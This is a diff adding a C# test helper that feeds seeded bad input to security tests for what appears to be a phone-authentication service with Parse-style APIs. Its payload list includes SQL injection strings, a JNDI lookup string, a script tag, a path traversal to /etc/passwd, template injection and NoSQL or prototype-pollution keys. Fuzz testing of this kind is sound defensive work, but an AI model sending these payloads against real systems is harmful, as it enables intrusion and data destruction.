@@ -1,0 +1,60 @@
+using System.Text;
+using Newtonsoft.Json.Linq;
+
+namespace PhoneAuth.Tests.Security;
+
+/// <summary>The seeded generator of bad input both dialects' attack suites draw from.</summary>
+internal static class BadInput
+{
+    public static readonly string[] Params =
+        ["phoneNumber", "code", "purpose", "userId", "ticket", "newPhoneNumber", "newCode", "password", "nickname", "username", "email",
+         "authData", "ACL", "where", "limit", "skip", "order", "keys", "count", "score", "phone", "emailVerified", "challengeToken", "objectId"];
+
+    public static readonly string[] Nasty =
+    [
+        "' OR '1'='1", "\"; DROP TABLE users; --", "1; SELECT pg_sleep(10)", "') OR 1=1--", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
+        "\u0000", "\u202e138", "１３８００１３８０００", "+86 138 0013 8000", "13800138000", "%00", "../../etc/passwd", "{{7*7}}", "😀😀😀",
+        "\ud800", "-1", "NaN", "", " ", "null", "true", "[]", "{}", "r:00000000000000000000000000000000", "pt:abc", "$where", "__proto__",
+    ];
+
+    /// <summary>A body: usually the JSON object, else truncated, not UTF-8, too deep, too large, or not an object.</summary>
+    public static byte[] Body(Random random, JObject body) =>
+        random.Next(12) switch
+        {
+            0 => Encoding.UTF8.GetBytes(body.ToString(Newtonsoft.Json.Formatting.None)[..^1]), // truncated JSON
+            1 => [0xff, 0xfe, 0x7b, 0x22, 0xc3, 0x28, 0x22, 0x7d], // invalid UTF-8
+            2 => Encoding.UTF8.GetBytes("{\"a\":" + new string('[', 200) + new string(']', 200) + "}"), // too deep
+            3 => Encoding.UTF8.GetBytes("{\"phoneNumber\":\"" + new string('9', 1_100_000) + "\"}"), // over the body limit
+            4 => Encoding.UTF8.GetBytes(Pick(random, ["null", "[]", "42", "\"x\"", "", "<xml/>"])),
+            _ => Encoding.UTF8.GetBytes(body.ToString(Newtonsoft.Json.Formatting.None)),
+        };
+
+    public static string ContentType(Random random) =>
+        Pick(random, ["text/plain", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "image/png"]);
+
+    public static JToken RandomValue(Random random, int depth) => random.Next(depth > 3 ? 6 : 10) switch
+    {
+        0 => new JValue(Pick(random, Nasty)),
+        1 => new JValue(random.Next(2) == 0 ? long.MaxValue : -random.NextInt64()),
+        2 => new JValue(random.NextDouble() * 1e308),
+        3 => new JValue(random.Next(2) == 0),
+        4 => JValue.CreateNull(),
+        5 => new JValue(new string('x', random.Next(1, 200_000))),
+        6 => new JArray(Enumerable.Range(0, random.Next(0, 4)).Select(_ => RandomValue(random, depth + 1))),
+        7 => new JObject { ["__op"] = Pick(random, ["Increment", "Add", "Delete", "Batch", "AddRelation", "Nope"]), ["amount"] = RandomValue(random, depth + 1), ["objects"] = RandomValue(random, depth + 1) },
+        8 => new JObject { ["__type"] = Pick(random, ["Date", "Pointer", "File", "Bytes"]), ["iso"] = Pick(random, Nasty), ["objectId"] = RandomValue(random, depth + 1) },
+        _ => new JObject { [Pick(random, Nasty)] = RandomValue(random, depth + 1), ["$in"] = RandomValue(random, depth + 1), [Pick(random, Params)] = RandomValue(random, depth + 1) },
+    };
+
+    public static T Pick<T>(Random random, T[] values) => values[random.Next(values.Length)];
+
+    /// <summary>Header values are printable ASCII on the wire: clients cannot send anything else, and Kestrel refuses it itself.</summary>
+    public static string Ascii(string value) => new([.. value.Select(c => c is >= ' ' and <= '~' ? c : '?')]);
+
+    /// <summary>Parse's error shapes: {"code":…,"error":"…"}, or {"error":"unauthorized"} for a bad application id.</summary>
+    public static bool IsClearError(string text)
+    {
+        try { return JToken.Parse(text) is JObject error && error["error"]?.Type == JTokenType.String; }
+        catch (Newtonsoft.Json.JsonException) { return false; }
+    }
+}
